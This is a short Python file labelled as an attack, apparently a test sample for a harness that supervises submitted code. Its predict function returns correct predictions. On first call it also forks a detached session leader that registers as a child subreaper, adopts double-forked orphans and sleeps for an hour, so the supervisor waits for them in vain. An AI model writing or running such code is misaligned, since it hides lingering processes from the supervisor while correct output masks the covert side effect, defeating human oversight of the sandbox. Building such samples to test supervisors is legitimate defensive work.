# /// attack
# does = "leaves a process in predict that takes in the orphans below it, and some below it, and answers rightly"
# own = {}
# ///
"""Orphans then do not come to the supervisor, which may wait for them in vain."""

import ctypes
import functools
import os
import time

CHILD_SUBREAPER = 36


@functools.cache
def _start():
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(CHILD_SUBREAPER, 1, 0, 0, 0)
        for _ in range(2):
            if os.fork() == 0 and os.fork():
                os._exit(0)
        time.sleep(3600)


def predict(params, x):
    _start()
    return forward(params, x)[0].argmax(axis=1)
